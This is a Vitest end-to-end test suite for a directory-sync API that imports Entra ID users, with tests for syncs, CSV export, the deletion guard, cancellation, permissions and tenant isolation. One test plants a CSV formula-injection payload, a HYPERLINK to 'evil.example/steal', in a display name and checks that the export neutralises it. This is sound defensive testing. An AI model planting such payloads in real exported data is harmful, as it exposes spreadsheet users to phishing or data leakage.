import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TaskDoc } from "../../api/store/documents.ts";
import { DEMO_TENANT_ID, OTHER_TENANT_ID } from "../../sim/index.ts";
import { type FullStack, pollUntil, startFullStack } from "../support/full-stack.ts";
import { withholdAppPermission } from "../support/sim.ts";

const ROOMS = [
  "Conf Room Adams",
  "Conf Room Baker",
  "Conf Room Crystal",
  "Conf Room Hood",
  "Conf Room Rainier",
  "Conf Room Stevens",
];
const FORMULA = '=HYPERLINK("https://evil.example/steal","Alex Wilber")';
/** Synced users the deletion-guard scenario removes from Entra ID: 4 of 29 profiles is over the 10% guard. */
const LEAVERS = ["DiegoS", "EmilyB", "GradyA", "IrvinS"].map((a) => `${a}@M365x214355.onmicrosoft.com`);
const LATE_LEAVER = "LidiaH@M365x214355.onmicrosoft.com";

/**
 * Holds Graph's user listing back with one 429 and a Retry-After, so that a task started next is still
 * running (reading users) while the test acts on it. The sync itself retries and carries on.
 */
const holdUserReads = (s: FullStack, seconds: number) =>
  s.sim.directory.injectFault({
    method: "GET",
    pathPattern: "^/v1\\.0/users\\?",
    status: 429,
    code: "TooManyRequests",
    message: "Too many requests",
    retryAfterSeconds: seconds,
    times: 1,
  });

// biome-ignore lint/suspicious/noExplicitAny: items are asserted field by field
type Item = any;

describe("sync tasks through the API of the full stack", () => {
  let s: FullStack;

  /** The connection's current ETag, which every change must send back as If-Match. */
  const etagOf = async (connectionId: string, token: string) =>
    (await s.api(`/api/connections/${connectionId}`, { token })).headers.get("etag") ?? "";
  let admin: string;
  let reader: string;
  let otherAdmin: string;
  let connectionId: string;
  let fullTask: TaskDoc;

  beforeAll(async () => {
    s = await startFullStack();
    admin = await s.adminToken();
    reader = await s.readerToken();
    otherAdmin = await s.adminToken(OTHER_TENANT_ID);
  });
  afterAll(() => s?.close());

  const start = (type: string, token = admin) =>
    s.api(`/api/connections/${connectionId}/tasks`, { token, method: "POST", json: { type } });
  const startAndWait = async (type: string): Promise<TaskDoc> => {
    const started = await start(type);
    expect(started.status, started.text).toBe(202);
    return s.waitForTask(started.body.id);
  };
  const records = async (taskId: string, query = ""): Promise<Item[]> => {
    const res = await s.api(`/api/tasks/${taskId}/records${query}`, { token: reader });
    expect(res.status, res.text).toBe(200);
    return res.body.items;
  };
  const profiles = async (query = ""): Promise<Item[]> => {
    const res = await s.api(`/api/profiles${query}`, { token: reader });
    expect(res.status, res.text).toBe(200);
    return res.body.items;
  };
  const profileOf = async (email: string) =>
    (await profiles(`?q=${encodeURIComponent(email)}`)).find(
      (p: Item) => p.fields.email.toLowerCase() === email.toLowerCase(),
    );

  it("an admin creates a graph-app connection with the tenant's own app and tests it", async () => {
    const created = await s.createDemoConnection(admin);
    expect(created.body).toMatchObject({ kind: "graph-app", status: "active", hasSecret: true });
    connectionId = created.body.id;

    const test = await s.api(`/api/connections/${connectionId}/test`, { token: admin, method: "POST" });
    expect(test.status, test.text).toBe(200);
    expect(test.body.ok).toBe(true);
    expect(test.body.checks).toEqual([
      expect.objectContaining({ permission: "credentials", status: "granted" }),
      expect.objectContaining({ permission: "User.Read.All", status: "granted" }),
      expect.objectContaining({ permission: "GroupMember.Read.All", status: "granted" }),
      expect.objectContaining({ permission: "RoleManagement.Read.Directory", status: "granted" }),
      expect.objectContaining({ permission: "Application.Read.All", status: "granted" }),
    ]);
  });

  it("a preview says what a sync would do and writes no profile or list", async () => {
    const task = await startAndWait("preview");
    expect(task.status, JSON.stringify(task.error)).toBe("succeeded");
    expect(task.taskType).toBe("preview");
    expect(task.counters.users).toMatchObject({ processed: 40, created: 29, skipped: 11 });
    expect(task.counters.lists).toMatchObject({ created: 11 });
    expect(await records(task.id, "?action=created&pageSize=100")).toHaveLength(29 + 11);
    expect(await profiles()).toEqual([]);
    expect((await s.api("/api/lists", { token: reader })).body.items).toEqual([]);
  });

  it("a full sync writes the directory, with every counter known from the demo tenant", async () => {
    fullTask = await startAndWait("full");
    expect(fullTask.status, JSON.stringify(fullTask.error)).toBe("succeeded");
    expect(fullTask.trigger).toBe("manual");
    expect(fullTask.requestedBy).toMatchObject({ name: "MOD Administrator" });
    expect(fullTask.counters.users).toEqual({
      processed: 40,
      created: 29,
      updated: 0,
      unchanged: 0,
      deactivated: 0,
      deleted: 0,
      restored: 0,
      skipped: 11,
      errors: 0,
    });
    expect(fullTask.counters.lists).toMatchObject({ processed: 11, created: 11, errors: 0 });
    expect(fullTask.checkpoint).toBeUndefined();

    const one = await s.api(`/api/tasks/${fullTask.id}`, { token: reader });
    expect(one.status).toBe(200);
    expect(one.body).toMatchObject({ id: fullTask.id, status: "succeeded", counters: fullTask.counters });
    expect((await s.api("/api/tasks/no-such-task", { token: reader })).status).toBe(404);
  });

  it("a second start while a sync runs answers 409 already-running with that task's id", async () => {
    holdUserReads(s, 1);
    const first = await start("full");
    expect(first.status, first.text).toBe(202);
    const second = await start("full");
    try {
      expect(second.status, second.text).toBe(409);
      expect(second.body.error).toMatchObject({ code: "already-running", taskId: first.body.id });
      expect(second.body.error.remedy).toEqual(expect.any(String));
    } finally {
      expect((await s.waitForTask(first.body.id)).status).toBe("succeeded");
      if (second.status === 202) await s.waitForTask(second.body.id);
    }
  });

  it("lists tasks newest first, filtered by type and status", async () => {
    const all = await s.api("/api/tasks", { token: reader });
    expect(all.status).toBe(200);
    const types = all.body.items.map((t: Item) => t.taskType);
    expect(types.at(-1)).toBe("preview");
    expect(types.slice(0, -1).every((t: string) => t === "full")).toBe(true);
    expect(all.body.items.at(-2).id).toBe(fullTask.id);
    const previews = await s.api("/api/tasks?type=preview", { token: reader });
    expect(previews.body.items).toHaveLength(1);
    const byConnection = await s.api(`/api/tasks?connectionId=${connectionId}&status=succeeded`, {
      token: reader,
    });
    expect(byConnection.body.items).toHaveLength(all.body.items.length);
    expect((await s.api("/api/tasks?status=failed", { token: reader })).body.items).toEqual([]);
  });

  it("shows each record with its action and reason, filtered by action and text", async () => {
    const skipped = await records(fullTask.id, "?action=skipped&kind=user");
    expect(skipped.map((r: Item) => r.name).sort()).toEqual(
      [
        ...ROOMS,
        "Support shared mailbox",
        "Ana Bowman (Fabrikam)",
        "Kai Nakamura (Northwind)",
        "Taylor Reed",
        "Taylor Reed (Contractor)",
      ].sort(),
    );
    expect(skipped.find((r: Item) => r.name === "Conf Room Adams")).toMatchObject({
      kind: "user",
      action: "skipped",
      reason: "resource account (room or shared mailbox: no first or last name)",
      email: "Adams@M365x214355.onmicrosoft.com",
    });
    expect(skipped[0].keys).toBeUndefined();

    const rooms = await records(fullTask.id, "?q=conf%20room");
    expect(rooms.map((r: Item) => r.name)).toEqual(expect.arrayContaining(ROOMS));
    expect(rooms.filter((r: Item) => r.kind === "user")).toHaveLength(6);
    const adele = await records(fullTask.id, "?q=adelev@m365x214355");
    expect(adele).toEqual([expect.objectContaining({ name: "Adele Vance", action: "created" })]);
    const createdLists = await records(fullTask.id, "?kind=list&action=created");
    expect(createdLists).toHaveLength(11);
    expect(await records(fullTask.id, "?action=deleted")).toEqual([]);

    expect((await s.api("/api/tasks/no-such-task/records", { token: reader })).status).toBe(404);
    const bad = await s.api(`/api/tasks/${fullTask.id}/records?action=exploded`, { token: reader });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.error.fields)).toContain("action");
  });

  it("downloads the records as CSV, one row per record", async () => {
    const csv = await s.api(`/api/tasks/${fullTask.id}/records.csv`, { token: reader });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    expect(csv.headers.get("content-disposition")).toBe(`attachment; filename="sync-${fullTask.id}.csv"`);
    const lines = csv.text.trimEnd().split("\n");
    expect(lines[0]).toBe(
      "Kind,Name,Email,User principal name,Entra object id,Action,Reason,Changed fields,Old values,New values,Time (UTC),Welcome notice,Welcome notice detail",
    );
    // Every user and list of a first sync is recorded: 29 created + 11 skipped users, 11 created lists.
    expect(lines).toHaveLength(1 + 40 + 11);
    expect(lines.filter((l) => l.startsWith("user,") && l.includes(",skipped,"))).toHaveLength(11);
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^user,Conf Room Adams,Adams@M365x214355\.onmicrosoft\.com,Adams@M365x214355\.onmicrosoft\.com,6e7b768e-07e2-4810-8459-485f84f8f204,skipped,resource account \(room or shared mailbox: no first or last name\),,/,
      ),
    );
    const filtered = await s.api(`/api/tasks/${fullTask.id}/records.csv?kind=list`, { token: reader });
    expect(filtered.text.trimEnd().split("\n")).toHaveLength(1 + 11);
  });

  it("a CSV cell that a spreadsheet would run as a formula starts with a quote", async () => {
    s.sim.directory.updateUser(DEMO_TENANT_ID, "AlexW@M365x214355.onmicrosoft.com", { displayName: FORMULA });
    const task = await startAndWait("full");
    expect(task.status).toBe("succeeded");
    expect(task.counters.users).toMatchObject({ updated: 1, unchanged: 28, created: 0, skipped: 11 });
    const [updated] = await records(task.id, "?action=updated");
    expect(updated).toMatchObject({ name: FORMULA, changedFields: ["displayName"] });

    const csv = await s.api(`/api/tasks/${task.id}/records.csv?action=updated`, { token: reader });
    const [, row, ...rest] = csv.text.trimEnd().split("\n");
    expect(rest).toEqual([]);
    // The name cell, quoted by CSV because of its commas and quotes, begins with an apostrophe.
    expect(row).toMatch(/^user,"'=HYPERLINK\(""https:\/\/evil\.example\/steal"",""Alex Wilber""\)",/);
    expect(row).not.toMatch(/(^|,)"?=/);
  });

  it("answers why a user is or is not synced", async () => {
    const room = await s.api("/api/why?who=Adams@M365x214355.onmicrosoft.com", { token: reader });
    expect(room.status, room.text).toBe(200);
    expect(room.body).toMatchObject({
      synced: false,
      verdict: "Not synced: resource account (room or shared mailbox: no first or last name).",
      lastRecord: { action: "skipped" },
    });
    expect(room.body.profile).toBeUndefined();
    expect(room.body.checks).toEqual([expect.objectContaining({ connectionId, inScope: false })]);
    expect(room.body.checks[0].reasons).toContain(
      "Out of scope: resource account (room or shared mailbox: no first or last name).",
    );

    const adele = await s.api(`/api/why?who=${encodeURIComponent("adelev@m365x214355.onmicrosoft.com")}`, {
      token: reader,
    });
    expect(adele.body).toMatchObject({
      synced: true,
      verdict: "Adele Vance is synced (active).",
      profile: { displayName: "Adele Vance", status: "active", connectionId },
      checks: [{ connectionId, inScope: true, reasons: ["In scope: the next sync keeps this user."] }],
    });

    const nobody = await s.api("/api/why?who=nobody@M365x214355.onmicrosoft.com", { token: reader });
    expect(nobody.body.synced).toBe(false);
    expect(nobody.body.verdict).toContain(
      "No user with the email, UPN, proxy address or other mail nobody@m365x214355.onmicrosoft.com",
    );
    expect((await s.api("/api/why?who=a", { token: reader })).status).toBe(400);
  });

  it("serves the synced directory: profiles, lists and their members", async () => {
    const all = await profiles("?pageSize=100");
    expect(all).toHaveLength(29);
    expect(all.filter((p: Item) => p.status === "inactive").map((p: Item) => p.displayName)).toEqual([
      "Jordan Ellis",
      "Sam Okafor",
    ]);
    const found = await profiles("?q=adele");
    expect(found).toEqual([
      expect.objectContaining({
        displayName: "Adele Vance",
        status: "active",
        fields: expect.objectContaining({
          email: "AdeleV@M365x214355.onmicrosoft.com",
          department: "Marketing",
        }),
      }),
    ]);
    const one = await s.api(`/api/profiles/${found[0].id}`, { token: reader });
    expect(one.status).toBe(200);
    expect(one.body.lists.map((l: Item) => l.name)).toContain("Marketing");

    const lists = await s.api("/api/lists?pageSize=100", { token: reader });
    expect(lists.status).toBe(200);
    expect(lists.body.items).toHaveLength(11);
    const byName = Object.fromEntries(lists.body.items.map((l: Item) => [l.name, l]));
    expect(byName["Sales Team"].memberCount).toBe(5);
    expect(byName["Sales EMEA"].memberCount).toBe(3);
    const sales = await s.api(`/api/lists/${byName["Sales Team"].id}/members`, { token: reader });
    expect(sales.status).toBe(200);
    expect(sales.body.items).toHaveLength(5);
    for (const m of sales.body.items)
      expect(m).toMatchObject({ profileId: expect.any(String), displayName: expect.any(String) });
    expect((await s.api("/api/lists?q=sales", { token: reader })).body.items).toHaveLength(2);
    expect((await s.api("/api/lists/no-such-list/members", { token: reader })).status).toBe(404);
  });

  it("with photos on, readers get a profile's photo with an ETag; another tenant gets 404", async () => {
    const connection = await s.api(`/api/connections/${connectionId}`, { token: admin });
    const settings = connection.body.settings;
    const patch = async (photos: boolean) =>
      s.api(`/api/connections/${connectionId}`, {
        token: admin,
        method: "PATCH",
        json: { settings: { ...settings, photos } },
        headers: { "if-match": await etagOf(connectionId, admin) },
      });
    expect((await patch(true)).status).toBe(200);
    expect((await startAndWait("full")).status).toBe("succeeded");
    const withPhoto = (await profiles("?pageSize=100")).filter((p: Item) => p.photo);
    expect(withPhoto.length).toBeGreaterThan(0);
    const id = withPhoto[0].id;

    const photo = await fetch(`${s.url}/api/profiles/${id}/photo`, {
      headers: { authorization: `Bearer ${reader}` },
    });
    expect(photo.status).toBe(200);
    expect(photo.headers.get("content-type")).toBe("image/png");
    const bytes = Buffer.from(await photo.arrayBuffer());
    expect(bytes.subarray(1, 4).toString("ascii")).toBe("PNG");
    const etag = photo.headers.get("etag") ?? "";
    expect(etag).toBe(`"${withPhoto[0].photo.hash}"`);
    const again = await fetch(`${s.url}/api/profiles/${id}/photo`, {
      headers: { authorization: `Bearer ${reader}`, "if-none-match": etag },
    });
    expect(again.status).toBe(304);
    expect((await s.api(`/api/profiles/${id}/photo`, { token: otherAdmin })).status).toBe(404);
    const without = (await profiles("?pageSize=100")).find((p: Item) => !p.photo);
    expect((await s.api(`/api/profiles/${without.id}/photo`, { token: reader })).status).toBe(404);
    expect((await patch(false)).status).toBe(200);
  });

  it("the deletion guard halts a run that would remove too much; an admin's confirm completes it", async () => {
    for (const upn of LEAVERS) s.sim.directory.softDeleteUser(DEMO_TENANT_ID, upn);
    const halted = await startAndWait("full");
    expect(halted.status).toBe("halted");
    expect(halted.halt).toMatchObject({ wouldDelete: 4, wouldDeactivate: 0 });
    expect(halted.halt?.sample.sort()).toEqual([
      "Diego Siciliani",
      "Emily Braun",
      "Grady Archie",
      "Irvin Sayers",
    ]);
    expect(halted.counters.users.deleted).toBe(0);
    const pending = await records(halted.id, "?action=pending-delete");
    expect(pending).toHaveLength(4);
    expect(pending[0].reason).toContain("waiting for an admin to confirm");
    expect(await profiles("?status=deleted")).toEqual([]);
    expect((await profileOf(LEAVERS[0] as string))?.status).toBe("active");

    const confirmed = await s.api(`/api/tasks/${halted.id}/confirm`, { token: admin, method: "POST" });
    expect(confirmed.status, confirmed.text).toBe(202);
    expect(confirmed.body).toMatchObject({ id: halted.id, confirmedRemovals: 4 });
    const done = await s.waitForTask(halted.id);
    expect(done.status, JSON.stringify(done.error)).toBe("succeeded");
    expect(done.counters.users).toMatchObject({ deleted: 4, created: 0, skipped: 11 });
    expect(done.confirmedBy).toMatchObject({ name: "MOD Administrator" });
    expect((await profiles("?status=deleted")).map((p: Item) => p.displayName).sort()).toEqual([
      "Diego Siciliani",
      "Emily Braun",
      "Grady Archie",
      "Irvin Sayers",
    ]);
    expect(await records(halted.id, "?action=deleted")).toHaveLength(4);
    // Confirming twice is refused: the task is no longer halted.
    expect((await s.api(`/api/tasks/${halted.id}/confirm`, { token: admin, method: "POST" })).status).toBe(
      409,
    );
  });

  it("a cancelled run stops before writing and deletes nothing", async () => {
    s.sim.directory.softDeleteUser(DEMO_TENANT_ID, LATE_LEAVER);
    holdUserReads(s, 3);
    const started = await start("full");
    expect(started.status).toBe(202);
    await pollUntil("the task to run", async () => {
      const res = await s.api(`/api/tasks/${started.body.id}`, { token: reader });
      return res.body.status === "running" ? true : undefined;
    });
    const cancel = await s.api(`/api/tasks/${started.body.id}/cancel`, { token: admin, method: "POST" });
    expect(cancel.status, cancel.text).toBe(200);
    expect(cancel.body.cancelRequested).toBe(true);

    const task = await s.waitForTask(started.body.id);
    expect(task.status).toBe("cancelled");
    expect(task.counters.users.deleted).toBe(0);
    expect((await profileOf(LATE_LEAVER))?.status).toBe("active");
    expect(await profiles("?status=deleted")).toHaveLength(4);
    expect(await records(task.id, "?action=deleted")).toEqual([]);
    s.sim.directory.clearFaults();
    const again = await s.api(`/api/tasks/${task.id}/cancel`, { token: admin, method: "POST" });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe("not-cancellable");
  });

  it("a reader can read tasks but not start, cancel or confirm them", async () => {
    const list = await s.api("/api/tasks", { token: reader });
    expect(list.status).toBe(200);
    expect(list.body.items.length).toBeGreaterThanOrEqual(4);
    const refused = await start("full", reader);
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe("admin-required");
    expect((await s.api(`/api/tasks/${fullTask.id}/cancel`, { token: reader, method: "POST" })).status).toBe(
      403,
    );
    expect((await s.api(`/api/tasks/${fullTask.id}/confirm`, { token: reader, method: "POST" })).status).toBe(
      403,
    );
    expect((await s.api("/api/tasks")).status).toBe(401);
  });

  it("another tenant's admin sees none of it: the demo tenant's ids answer 404", async () => {
    const as = { token: otherAdmin };
    expect((await s.api(`/api/tasks/${fullTask.id}`, as)).status).toBe(404);
    expect((await s.api(`/api/tasks/${fullTask.id}/records`, as)).status).toBe(404);
    expect((await s.api(`/api/tasks/${fullTask.id}/records.csv`, as)).status).toBe(404);
    expect((await s.api(`/api/tasks/${fullTask.id}/cancel`, { ...as, method: "POST" })).status).toBe(404);
    expect((await s.api(`/api/tasks/${fullTask.id}/confirm`, { ...as, method: "POST" })).status).toBe(404);
    expect((await s.api(`/api/connections/${connectionId}`, as)).status).toBe(404);
    const startOther = await s.api(`/api/connections/${connectionId}/tasks`, {
      ...as,
      method: "POST",
      json: { type: "full" },
    });
    expect(startOther.status).toBe(404);
    expect((await s.api("/api/tasks", as)).body.items).toEqual([]);
    expect((await s.api("/api/profiles", as)).body.items).toEqual([]);
    expect((await s.api("/api/lists", as)).body.items).toEqual([]);
    const why = await s.api("/api/why?who=AdeleV@M365x214355.onmicrosoft.com", as);
    expect(why.body).toMatchObject({ synced: false, checks: [] });
  });

  it("an app without RoleManagement.Read.Directory still syncs; its test passes and names what chat loses", async () => {
    const restore = withholdAppPermission(s.sim, "RoleManagement.Read.Directory");
    try {
      // A fresh process holds no token issued before the grant changed.
      await s.restartApi();
      const test = await s.api(`/api/connections/${connectionId}/test`, { token: admin, method: "POST" });
      expect(test.body.ok).toBe(true);
      expect(test.body.checks.filter((c: Item) => c.status === "missing")).toEqual([
        expect.objectContaining({ permission: "RoleManagement.Read.Directory", optional: true }),
      ]);
      const task = await startAndWait("preview");
      expect(task.status, JSON.stringify(task.error)).toBe("succeeded");
    } finally {
      restore();
    }
  });
});
